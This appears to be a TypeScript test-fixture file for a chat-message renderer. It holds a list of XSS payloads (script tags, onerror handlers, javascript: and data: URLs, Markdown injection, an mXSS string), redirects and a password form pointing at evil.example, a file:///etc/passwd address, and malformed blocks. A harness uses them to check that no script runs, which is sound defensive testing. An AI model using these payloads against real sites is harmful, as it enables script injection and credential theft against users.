type Json = Readonly<Record<string, unknown>>

/** Marks the page when it runs; the test looks for the mark. */
const run = 'window.hacked=1'

/** Texts that become script on a page that is careless with HTML, attributes, addresses or Markdown. */
export const hostileTexts: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}>`,
  `'"><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}">click</a>`,
  `<javascript:${run}|click>`,
  `<JaVaScRiPt:${run}>`,
  `<data:text/html,<script>${run}</script>|data>`,
  `<vbscript:${run}|vb>`,
  `[click](javascript:${run})`,
  `[click](&#106;avascript:${run})`,
  `![x](x" onerror="${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)`,
  `<!date^1^{date}^javascript:${run}|later>`,
  `<@U0ALICE0001" onmouseover="${run}>`,
  `<#C1|<img src=x onerror=${run}>>`,
  '```\n</pre><script>' + run + '</script>\n```',
  `<style>body{display:none}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><input name=password></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<span data-special="javascript:${run}"></span><span data-emoji="x"></span>`,
]

const badAddresses = [
  `javascript:${run}`,
  ` javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  '//evil.example/x',
  'file:///etc/passwd',
  `java\nscript:${run}`,
]

/** Messages that carry the hostile texts and addresses in every place a renderer reads. */
export function hostileMessages(): readonly Json[] {
  let count = 0
  const message = (more: Json): Json => {
    count += 1
    return {
      ts: `1763700000.${String(count).padStart(6, '0')}`,
      channel: 'C0GENERAL01',
      user: 'U0BOB000001',
      text: '',
      blocks: [],
      reactions: [],
      ...more,
    }
  }
  const ofText = hostileTexts.flatMap((text) => [
    message({ text }),
    message({ markdownText: text }),
    message({ blocks: blocksWith(text) }),
    message({ user: undefined, botId: 'B1', username: text, iconEmoji: text, iconUrl: text, text }),
    message({
      chunks: [
        { type: 'markdown_text', text },
        {
          type: 'task_update',
          id: text,
          title: text,
          status: text,
          details: text,
          output: text,
          sources: [{ type: 'url', url: text, text }],
        },
      ],
    }),
    message({
      text: 'reaction',
      reactions: [{ name: text, users: [text] }],
      files: [{ id: text, name: text, title: text, mimetype: text, filetype: text, size: text }],
    }),
    message({
      text: 'attachment',
      attachments: [{ color: text, title: text, title_link: text, text, fields: [{ title: text, value: text }] }],
    }),
  ])
  return [...ofText, ...badAddresses.map((url) => message({ blocks: blocksWithAddress(url) }))]
}

function blocksWith(text: string): readonly Json[] {
  const mrkdwn = { type: 'mrkdwn', text }
  const plain = { type: 'plain_text', text }
  const option = { text: plain, value: text, description: plain, url: text }
  const rich = {
    type: 'rich_text',
    elements: [
      {
        type: 'rich_text_section',
        elements: [
          { type: 'text', text },
          { type: 'link', url: text, text },
          { type: 'emoji', name: text },
          { type: 'color', value: text },
          { type: 'user', user_id: text },
          { type: text, text },
        ],
      },
    ],
  }
  const button = {
    type: 'button',
    action_id: text,
    text: plain,
    value: text,
    style: text,
    url: text,
    accessibility_label: text,
  }
  return [
    { type: text },
    { type: 'header', text: plain },
    {
      type: 'section',
      block_id: text,
      text: mrkdwn,
      fields: [mrkdwn, plain],
      accessory: { type: 'overflow', action_id: text, options: [option] },
    },
    {
      type: 'actions',
      elements: [
        button,
        {
          type: 'static_select',
          action_id: text,
          placeholder: plain,
          options: [option],
          option_groups: [{ label: plain, options: [option] }],
        },
        { type: 'radio_buttons', action_id: text, options: [option] },
      ],
    },
    { type: 'context', elements: [mrkdwn, { type: 'image', image_url: text, alt_text: text }] },
    { type: 'markdown', text },
    { type: 'alert', level: text, text: mrkdwn },
    rich,
    { type: 'card', title: mrkdwn, subtitle: mrkdwn, body: mrkdwn, actions: [button] },
    { type: 'container', width: text, title: plain, subtitle: mrkdwn, child_blocks: [{ type: 'markdown', text }] },
    { type: 'table', column_settings: [{ align: text }], rows: [[{ type: 'raw_text', text }], [rich]] },
    { type: 'data_table', caption: text, rows: [[{ type: 'raw_text', text }], [{ type: 'raw_text', text }]] },
    {
      type: 'plan',
      title: text,
      tasks: [{ type: 'task_card', task_id: text, title: text, status: text, details: rich }],
    },
    { type: 'file', external_id: text, source: text },
    {
      type: 'input',
      block_id: text,
      label: plain,
      hint: plain,
      element: { type: 'plain_text_input', action_id: text, placeholder: plain, initial_value: text },
    },
    {
      type: 'context_actions',
      elements: [
        {
          type: 'feedback_buttons',
          action_id: text,
          positive_button: { text: plain, value: text },
          negative_button: { text: plain, value: text },
        },
        { type: 'icon_button', icon: text, action_id: text, text: plain },
      ],
    },
    {
      type: 'video',
      title: plain,
      title_url: text,
      video_url: text,
      thumbnail_url: text,
      alt_text: text,
      provider_name: text,
      description: plain,
    },
  ]
}

function blocksWithAddress(url: string): readonly Json[] {
  const title = { type: 'plain_text', text: 'address' }
  return [
    { type: 'image', image_url: url, alt_text: 'image' },
    { type: 'video', title, title_url: url, video_url: url, thumbnail_url: url, alt_text: 'video' },
    { type: 'markdown', text: `[a](${url}) ![b](${url}) <${url}>` },
    { type: 'section', text: { type: 'mrkdwn', text: `<${url}|a> <${url}>` } },
    {
      type: 'rich_text',
      elements: [
        {
          type: 'rich_text_section',
          elements: [
            { type: 'link', url, text: 'link' },
            { type: 'date', timestamp: 1, format: '{date}', url },
          ],
        },
      ],
    },
    {
      type: 'task_card',
      task_id: 'x',
      title: 'x',
      status: 'complete',
      sources: [{ type: 'url', url, text: 'source' }],
    },
  ]
}

/** Blocks that no app may send, and that must not take the page down: wrong types, holes, depth. */
export const malformedBlocks: readonly unknown[] = [
  null,
  7,
  'text',
  [],
  {},
  { type: 7 },
  { type: 'section' },
  { type: 'section', text: 7, fields: 'no' },
  { type: 'actions', elements: 'no' },
  { type: 'actions', elements: [null, 7, {}] },
  { type: 'context_actions', elements: [{ type: 'feedback_buttons' }, { type: 'icon_button' }] },
  { type: 'table', rows: [[null], 7, null] },
  { type: 'table' },
  { type: 'data_table', rows: {} },
  { type: 'plan', tasks: [null, { status: 9 }] },
  { type: 'task_card' },
  {
    type: 'rich_text',
    elements: [{ type: 'rich_text_list' }, null, { type: 'rich_text_section', elements: [null, 7] }],
  },
  { type: 'image' },
  { type: 'video' },
  { type: 'input' },
  { type: 'input', element: { type: 'static_select' } },
  { type: 'carousel' },
  { type: 'container', child_blocks: 7 },
  { type: 'markdown' },
  { type: 'header', text: { text: {} } },
  { type: '__proto__' },
  { type: 'constructor' },
  { type: 'toString' },
]
